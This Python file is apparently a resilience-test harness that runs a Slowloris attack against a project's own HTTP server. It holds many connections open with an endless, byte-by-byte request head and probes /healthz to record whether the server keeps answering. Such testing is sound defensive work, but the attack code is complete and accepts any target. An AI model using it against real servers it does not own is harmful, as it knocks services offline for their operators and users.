#!/usr/bin/python3
"""Slowloris against one of kiln's HTTP servers, for slowloris.sh.

  slowloris.py attack HOST:PORT --connections N --source ADDR --seconds S --out FILE
      opens N connections from ADDR at once (non-blocking), sends each a
      request head one byte a second that never ends (header lines after
      header lines), and watches who closes them. It stops when the server
      has closed every connection, or after S seconds (the connections still
      open are counted as survived, then closed here). FILE gets one JSON
      object: the counts and the lifetimes of the connections the server
      held before it closed them, and when it began and ended (monotonic).
  slowloris.py probe HOST:PORT --source ADDR --bound S --stop FILE --out FILE
      asks GET /healthz from ADDR, one request at a time with 0.2 s between,
      until the stop file exists; each answer must come within S seconds.
      FILE gets one JSON line per probe: start (monotonic), seconds, status
      (0: no answer).
"""
import argparse
import errno
import json
import os
import resource
import selectors
import socket
import sys
import time

# A head that never ends: the request line, then header lines forever.
HEAD = b"GET /healthz HTTP/1.1\r\nHost: kiln\r\n"
LINE = b"X-Slow: 1\r\n"


def trickle_byte(n):
    """The n-th byte (from 0) of the endless head."""
    if n < len(HEAD):
        return HEAD[n:n + 1]
    n = (n - len(HEAD)) % len(LINE)
    return LINE[n:n + 1]


def raise_nofile(want):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft >= want:
        return
    if hard != resource.RLIM_INFINITY and hard < want:
        sys.exit("slowloris.py: the descriptor limit is %d, %d are needed" % (hard, want))
    resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))


class Conn:
    __slots__ = ("sock", "opened", "connected", "closed", "sent", "how", "answered", "next_send")

    def __init__(self, sock, now):
        self.sock = sock
        self.opened = now
        self.connected = None
        self.closed = None
        self.sent = 0
        self.how = None  # server (EOF or reset), connect_failed, survived
        self.answered = False  # the server sent bytes before closing
        self.next_send = None


def attack(a):
    host, port = a.target.rsplit(":", 1)
    raise_nofile(a.connections + 64)
    sel = selectors.DefaultSelector()
    conns = []
    start = time.monotonic()
    for i in range(a.connections):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        s.bind((a.source, 0))
        c = Conn(s, time.monotonic())
        rc = s.connect_ex((host, int(port)))
        if rc not in (0, errno.EINPROGRESS):
            c.how, c.closed = "connect_failed", time.monotonic()
            s.close()
        else:
            sel.register(s, selectors.EVENT_WRITE, c)
        conns.append(c)
    opened_s = time.monotonic() - start
    live = sum(1 for c in conns if c.how is None)
    peak_open = 0

    def close(c, how, now):
        sel.unregister(c.sock)
        c.sock.close()
        c.how, c.closed = how, now

    deadline = start + a.seconds
    active = set()  # connected, not closed
    next_tick = start
    while live and time.monotonic() < deadline:
        now = time.monotonic()
        if now >= next_tick:
            # send the due bytes; a send that fails means the server hung up
            next_tick = now + 0.1
            for c in list(active):
                if c.next_send > now:
                    continue
                try:
                    c.sock.send(trickle_byte(c.sent))
                    c.sent += 1
                except BlockingIOError:
                    pass
                except OSError:
                    close(c, "server", now)
                    active.discard(c)
                    live -= 1
                    continue
                c.next_send = now + a.interval
        for key, ev in sel.select(timeout=0.05):
            c = key.data
            now = time.monotonic()
            if c.how is not None:
                continue
            if c.connected is None:
                err = c.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    close(c, "connect_failed", now)
                    live -= 1
                    continue
                c.connected = now
                c.next_send = now
                active.add(c)
                sel.modify(c.sock, selectors.EVENT_READ, c)
                continue
            try:
                data = c.sock.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if data:
                c.answered = True
                continue
            close(c, "server", now)
            active.discard(c)
            live -= 1
        peak_open = max(peak_open, live)
    end = time.monotonic()
    for c in conns:
        if c.how is None:
            close(c, "survived", end)

    # held: lived through at least three trickled bytes before the server
    # closed it (those the server turned away at once got one or two)
    server = [c for c in conns if c.how == "server"]
    held = sorted(c.closed - c.connected for c in server if c.sent >= 3)
    at_once = [c for c in server if c.sent < 3]

    def pct(v, q):
        return round(v[min(len(v) - 1, int(q * len(v)))], 2) if v else None

    out = {
        "connections": a.connections,
        "open_seconds": round(opened_s, 2),
        "connected": sum(1 for c in conns if c.connected is not None),
        "connect_failed": sum(1 for c in conns if c.how == "connect_failed"),
        "closed_by_server": len(server),
        "closed_at_once": len(at_once),
        "held_then_closed": len(held),
        "answered_before_closing": sum(1 for c in server if c.answered),
        "survived": sum(1 for c in conns if c.how == "survived"),
        "bytes_trickled": sum(c.sent for c in conns),
        "held_lifetime_min": pct(held, 0),
        "held_lifetime_median": pct(held, 0.5),
        "held_lifetime_max": pct(held, 1),
        "held_bytes_max": max((c.sent for c in server), default=0),
        "peak_open": peak_open,
        "seconds": round(end - start, 2),
        "start": round(start, 3),
        "end": round(end, 3),
    }
    with open(a.out, "w") as f:
        json.dump(out, f)
        f.write("\n")


def probe_once(host, port, source, bound):
    t0 = time.monotonic()
    status = 0
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        s.settimeout(bound)
        s.bind((source, 0))
        s.connect((host, port))
        s.sendall(b"GET /healthz HTTP/1.1\r\nHost: kiln\r\nConnection: close\r\n\r\n")
        data = b""
        while b"\r\n" not in data:
            left = bound - (time.monotonic() - t0)
            if left <= 0:
                break
            s.settimeout(left)
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
        line = data.split(b"\r\n", 1)[0].split()
        if len(line) >= 2 and line[0].startswith(b"HTTP/") and line[1].isdigit():
            status = int(line[1])
    except OSError:
        pass
    finally:
        s.close()
    return t0, time.monotonic() - t0, status


def probe(a):
    host, port = a.target.rsplit(":", 1)
    with open(a.out, "w") as f:
        while not os.path.exists(a.stop):
            t0, secs, status = probe_once(host, int(port), a.source, a.bound)
            f.write(json.dumps({"start": round(t0, 3), "seconds": round(secs, 4), "status": status}) + "\n")
            f.flush()
            time.sleep(0.2)


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)
    at = sub.add_parser("attack")
    at.add_argument("target")
    at.add_argument("--connections", type=int, required=True)
    at.add_argument("--source", default="127.0.0.1")
    at.add_argument("--seconds", type=float, required=True)
    at.add_argument("--interval", type=float, default=1.0)
    at.add_argument("--out", required=True)
    pr = sub.add_parser("probe")
    pr.add_argument("target")
    pr.add_argument("--source", default="127.0.0.2")
    pr.add_argument("--bound", type=float, required=True)
    pr.add_argument("--stop", required=True)
    pr.add_argument("--out", required=True)
    a = p.parse_args()
    attack(a) if a.cmd == "attack" else probe(a)


if __name__ == "__main__":
    main()
